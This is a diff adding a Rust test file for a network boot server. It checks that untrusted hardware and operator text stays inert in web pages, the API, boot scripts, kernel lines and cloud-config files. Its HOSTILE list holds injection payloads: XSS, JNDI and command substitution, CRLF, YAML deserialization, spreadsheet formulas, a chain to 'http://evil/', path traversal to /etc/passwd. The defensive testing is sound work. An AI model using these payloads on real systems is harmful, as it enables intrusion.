@@ -1,0 +1,344 @@
+//! Text that machines and people send is text: in every page, script, kernel line, file for an OS and export it is shown as it
+//! is, or it was refused at the door. It is never syntax of what it stands in.
+
+use boot_server_core::cloud_config::{self, Login, Urls};
+use boot_server_core::ipxe::{CommandLine, Kernel, KernelArg, Script, Url};
+use boot_server_core::metadata::{Found, Instance, Proof, ignition, look};
+use boot_server_core::node::{Claim, event::Verb};
+use boot_server_core::{deploy, grub};
+use protocol::agent::Hello;
+use protocol::inventory::{
+    Cpu, Dimm, Disk, DiskContent, Firmware, Inventory, LldpNeighbour, Nic, Partition, PciDevice, System,
+    Transport,
+};
+use protocol::{JobId, MacAddr, PROTOCOL_VERSION, Timestamp};
+use serde_json::{Value, json};
+use uuid::Uuid;
+
+use super::lab::Lab;
+use crate::engine::{Actor, BootAnswer};
+
+/// What would break out of something, and of what.
+const HOSTILE: &[(&str, &str)] = &[
+    ("markup", "<script>document.title='owned'</script><img src=x onerror=alert(1)>"),
+    ("attribute", "\" autofocus onfocus=\"alert(1)\" x='y"),
+    ("svg", "</text></svg><svg onload=alert(1)>"),
+    ("cdata", "]]></style><!-- -->"),
+    ("template", "{{7*7}}${jndi:ldap://x}{% include 'x' %}$(id)`id`"),
+    ("lines", "a\r\nSet-Cookie: x=y\r\n\r\n<b>\nruncmd: [reboot]"),
+    ("yaml", "x\"}\n- !!python/object:os.system\n'\\: &a *a # % @"),
+    ("formula", "=cmd|' /C calc'!A1"),
+    ("formula, plus", "+1+cmd()"),
+    ("kernel line", "x init=/bin/sh rd.break --- quiet"),
+    ("ipxe", "x && chain http://evil/ || ${net0/mac}"),
+    ("grub", "x'; linux /evil; echo \"$root\""),
+    ("direction", "user\u{202e}gnp.exe\u{2066}\u{200f}"),
+    ("nul", "a\0b\u{1b}[31m\u{7}"),
+    ("octets", "\u{fffd}\u{feff}\u{e000}"),
+    ("path", "../../etc/passwd%00%2e%2e%2f"),
+    ("json", "\",\"role\":\"admin\",\"x\":\"\\u0000"),
+];
+
+/// A machine whose every text is this one.
+fn inventory(text: &str) -> Inventory {
+    let some = || Some(text.to_owned());
+    let partition = Partition { number: 1, start_bytes: 0, size_bytes: 1, name: some(), content: some() };
+    let disk = Disk {
+        id: Some("serial:D1".parse().unwrap()),
+        name: text.to_owned(),
+        bus_path: some(),
+        model: some(),
+        serial: some(),
+        wwn: some(),
+        firmware: some(),
+        size_bytes: 10_000_000_000,
+        logical_sector: 512,
+        physical_sector: 512,
+        rotational: false,
+        transport: Transport::Virtio,
+        removable: false,
+        read_only: false,
+        content: DiskContent::Partitioned { table: text.to_owned(), partitions: vec![partition] },
+    };
+    let nic = Nic {
+        name: text.to_owned(),
+        mac: MacAddr([0x52, 0x54, 0, 0, 9, 1]),
+        permanent_mac: None,
+        driver: some(),
+        firmware: some(),
+        speed_mbps: Some(1000),
+        carrier: true,
+        bus_path: some(),
+        pci_id: some(),
+        address: None,
+        address6: None,
+        lldp: Some(LldpNeighbour {
+            chassis_id: text.to_owned(),
+            port_id: text.to_owned(),
+            system_name: some(),
+            port_description: some(),
+            vlan: None,
+        }),
+    };
+    Inventory {
+        system: System {
+            uuid: None,
+            manufacturer: some(),
+            product: some(),
+            serial: some(),
+            sku: some(),
+            board_manufacturer: some(),
+            board_product: some(),
+            board_serial: some(),
+            chassis_serial: some(),
+            asset_tag: some(),
+        },
+        firmware: Firmware { vendor: some(), version: some(), date: some(), ..Firmware::default() },
+        cpus: vec![Cpu { model: text.to_owned(), vendor: text.to_owned(), cores: 1, ..Cpu::default() }],
+        memory_bytes: 1 << 30,
+        dimms: vec![Dimm { locator: text.to_owned(), kind: some(), serial: some(), ..Dimm::default() }],
+        disks: vec![disk],
+        nics: vec![nic],
+        pci: vec![PciDevice {
+            address: text.to_owned(),
+            driver: some(),
+            name: some(),
+            ..PciDevice::default()
+        }],
+        warnings: vec![text.to_owned()],
+        ..Inventory::default()
+    }
+}
+
+/// Markup of ours that a text could have changed: what is counted in a page made with it and in one made with plain text.
+fn skeleton(page: &str) -> Vec<(&'static str, usize)> {
+    let lower = page.to_lowercase();
+    let marks = [
+        "<script",
+        "<img",
+        "<svg",
+        "</svg>",
+        "<style",
+        "</style>",
+        "<!--",
+        "<b>",
+        " onerror=",
+        " onload=",
+        " onfocus=",
+        " autofocus",
+    ];
+    marks.into_iter().map(|mark| (mark, lower.matches(mark).count())).collect()
+}
+
+/// In attributes and between tags a quote or angle bracket of a text must have been escaped: outside of tags nothing of it is
+/// left, inside of tags no attribute of it.
+async fn pages(lab: &Lab, node: &str) -> Vec<(String, Vec<(&'static str, usize)>)> {
+    let mut all = Vec::new();
+    for path in [
+        "/".to_owned(),
+        "/events".to_owned(),
+        "/faults".to_owned(),
+        "/status".to_owned(),
+        format!("/nodes/{node}"),
+        format!("/nodes/{node}/deploy"),
+        format!("/nodes/{node}/provide"),
+        format!("/nodes/{node}/boot"),
+        format!("/nodes/{node}/bmc"),
+        format!("/nodes/{node}/console"),
+        format!("/nodes/{node}/firmware"),
+    ] {
+        let got = lab.get(&path).await;
+        let page = got.body.as_str().unwrap_or_default().to_owned();
+        assert!(got.status < 500 && got.kind.starts_with("text/html"), "{path}: {} {}", got.status, got.kind);
+        assert!(!page.contains('\0'), "{path} holds NUL");
+        all.push((path, skeleton(&page)));
+    }
+    all
+}
+
+async fn machine(lab: &Lab, text: &str) -> String {
+    let claim = Claim {
+        uuid: Some(Uuid::from_u128(0x99)),
+        serial: Some(text.to_owned()),
+        macs: vec![MacAddr([0x52, 0x54, 0, 0, 9, 1])],
+    };
+    let BootAnswer::Agent { name, nonce } = lab.engine.boot(claim, [10, 77, 0, 99].into()).await.unwrap()
+    else {
+        panic!("no agent: {text:?}")
+    };
+    let hello = Hello {
+        protocol: PROTOCOL_VERSION,
+        agent_version: text.to_owned(),
+        kernel: text.to_owned(),
+        nonce,
+        uuid: None,
+        serial: Some(text.to_owned()),
+        macs: Vec::new(),
+        uptime_ms: 1,
+    };
+    let session = lab.engine.hello(hello).await.unwrap().session;
+    lab.engine.put_inventory(&session, inventory(text)).await.unwrap();
+    let node = lab.engine.node(&name).await.unwrap();
+    let who = Actor::Operator(text.to_owned());
+    let reason = Verb::Maintenance { reason: Some(text.to_owned()) };
+    lab.engine.apply(node.id, who, boot_server_core::node::Event::Verb(reason)).await.unwrap();
+    name
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_machine_says_is_text_in_every_page_and_answer() {
+    let plain = Lab::new().await;
+    let name = machine(&plain, "plain").await;
+    let expected = pages(&plain, &name).await;
+    assert!(expected.iter().any(|(path, _)| path.ends_with("/boot")), "nothing was looked at");
+    for (what, text) in HOSTILE {
+        let lab = Lab::new().await;
+        let name = machine(&lab, text).await;
+        for (page, was) in pages(&lab, &name).await.iter().zip(&expected) {
+            assert_eq!(page, was, "{what}: the page has other elements than with plain text");
+        }
+        // JSON holds it as it is, or without what no text may hold.
+        let got = lab.get(&format!("/api/v1/nodes/{name}")).await;
+        assert_eq!(got.kind, "application/json", "{what}");
+        let model = got.body["inventory"]["disks"][0]["model"].as_str().unwrap_or_default();
+        assert_eq!(model, *text, "{what}: the API changes it");
+        let metrics = lab.get("/metrics").await;
+        let lines = metrics.body.as_str().unwrap_or_default().to_owned();
+        let lines = lines.lines().filter(|line| !line.starts_with('#') && !line.is_empty());
+        for line in lines {
+            let number = line.rsplit(' ').next().unwrap_or_default();
+            assert!(number.parse::<f64>().is_ok(), "{what}: a metric is `{line}`");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_people_say_is_refused_where_it_cannot_be_a_name() {
+    let lab = Lab::new().await;
+    for (what, text) in HOSTILE {
+        for (path, body) in [
+            ("/api/v1/nodes/alpha/rename", json!({ "name": text })),
+            ("/api/v1/nodes/alpha/deploy", json!({ "image": text, "confirm": "alpha" })),
+            ("/api/v1/tokens", json!({ "name": text, "role": "reader" })),
+        ] {
+            let got = lab.post(path, body).await;
+            assert!((400..500).contains(&got.status), "{what} at {path}: {} {}", got.status, got.body);
+            assert_eq!(got.kind, "application/problem+json", "{what} at {path}");
+        }
+        let path = format!("/nodes/{}", crate::http::encode(text));
+        let got = lab.get(&path).await;
+        assert!(!got.body.as_str().unwrap_or_default().contains("<img"), "{what} in the page of an error");
+    }
+}
+
+#[test]
+fn no_text_becomes_syntax_of_a_script_or_a_kernel_line() {
+    let base = Url::new("http://10.77.0.1:8080").unwrap();
+    for (what, text) in HOSTILE {
+        assert!(Url::new(*text).is_err(), "{what} is a URL");
+        for arg in [KernelArg::new("billet.x", text), KernelArg::flag(text), KernelArg::parse(text)]
+            .into_iter()
+            .flatten()
+        {
+            // What is taken is one word of letters that no shell, no loader and no kernel reads as anything else.
+            let word = arg.to_string();
+            assert!(
+                !word.contains(|c: char| c.is_whitespace() || c.is_control() || "'\"\\$`;&|<>".contains(c)),
+                "{what}: {word}"
+            );
+        }
+        let boot = Kernel {
+            kernel: Url::new("http://10.77.0.1:8080/boot/files/vmlinuz").unwrap(),
+            initrds: Vec::new(),
+            args: CommandLine::new(Vec::new()).unwrap(),
+        };
+        let message = (*text).to_owned();
+        for script in [Script::Agent { message: message.clone(), boot }, Script::Refuse { message }] {
+            for rendered in [script.render(), grub::render(&script, &base)] {
+                let lines =
+                    |needle: &str| rendered.lines().filter(|l| l.trim_start().starts_with(needle)).count();
+                for command in ["chain http://evil", "linux /evil", "runcmd", "Set-Cookie", "init="] {
+                    assert_eq!(lines(command), 0, "{what}: {rendered}");
+                }
+                assert!(!rendered.contains('\0') && !rendered.contains('\u{1b}'), "{what}");
+                assert!(!rendered.contains("${net0/mac} "), "{what}: {rendered}");
+            }
+        }
+    }
+}
+
+fn instance(text: &str) -> Instance {
+    Instance {
+        id: JobId(Uuid::from_u128(7)),
+        hostname: text.to_owned(),
+        image: text.to_owned(),
+        architecture: text.to_owned(),
+        created: Timestamp(1),
+        ssh_keys: vec![text.to_owned()],
+        macs: Vec::new(),
+        port: None,
+        network: None,
+        network_config: None,
+        user_data: Some(text.to_owned()),
+        vendor_data: text.to_owned(),
+    }
+}
+
+#[test]
+fn no_text_becomes_structure_of_a_file_for_an_os() {
+    let urls = Urls { phone_home: "http://h/p", metadata: "http://h/m/" };
+    for (what, text) in HOSTILE {
+        // The door: what is no host name, user or key is refused before it comes near a file.
+        let keys = [(*text).to_owned()];
+        for login in [
+            Login { hostname: text, user: "debian", ssh_keys: &[], password_hash: None },
+            Login { hostname: "web", user: text, ssh_keys: &[], password_hash: None },
+            Login { hostname: "web", user: "debian", ssh_keys: &keys, password_hash: None },
+            Login { hostname: "web", user: "debian", ssh_keys: &[], password_hash: Some(text) },
+        ] {
+            assert!(login.check().is_err(), "{what} is taken");
+        }
+        // Behind it: also what came past is a value.
+        let login = Login { hostname: text, user: text, ssh_keys: &keys, password_hash: Some(text) };
+        let vendor = cloud_config::vendor_data(&login, &urls);
+        let (head, body) = vendor.split_once('\n').unwrap();
+        let parsed: Value = serde_json::from_str(body).unwrap();
+        assert_eq!(head, "#cloud-config", "{what}");
+        assert_eq!(parsed["users"][0]["name"], *text, "{what}");
+        assert_eq!(parsed["users"][0]["ssh_authorized_keys"][0], *text, "{what}");
+        let keys_of: Vec<&String> = parsed.as_object().unwrap().keys().collect();
+        assert_eq!(keys_of.len(), 6, "{what}: {keys_of:?}");
+        let meta: Value = serde_json::from_str(&cloud_config::meta_data(JobId(Uuid::nil()), text)).unwrap();
+        assert_eq!(meta["local-hostname"], *text, "{what}");
+        let config: Value =
+            serde_json::from_str(&ignition::config(&login, urls.phone_home, Some(text))).unwrap();
+        assert_eq!(config["passwd"]["users"][0]["name"], *text, "{what}");
+        let source = config["ignition"]["config"]["merge"][0]["source"].as_str().unwrap();
+        assert!(
+            source.bytes().all(|b| b.is_ascii_graphic() && !b"\"'<>\\`${}".contains(&b)),
+            "{what}: {source}"
+        );
+        for path in [
+            "openstack/latest/meta_data.json",
+            "latest/dynamic/instance-identity/document",
+            "openstack/latest/vendor_data.json",
+        ] {
+            let Found::File { text: file, .. } = look(&instance(text), path, None, Proof::Token) else {
+                panic!("{path}")
+            };
+            assert!(serde_json::from_str::<Value>(&file).is_ok(), "{what} at {path}: {file}");
+        }
+        // A name in a listing would be a line of its own: there is none that somebody chose.
+        let listed = |path| match look(&instance(text), path, None, Proof::Token) {
+            Found::Listing(names) => names,
+            other => panic!("{path}: {other:?}"),
+        };
+        assert_eq!(listed("latest/meta-data/public-keys"), "0=key-0", "{what}");
+        assert_eq!(
+            listed("openstack/latest"),
+            "meta_data.json\nuser_data\nvendor_data.json\nvendor_data2.json",
+            "{what}"
+        );
+        assert!(!deploy::title(&inventory(text).disks[0]).is_empty());
+    }
+}
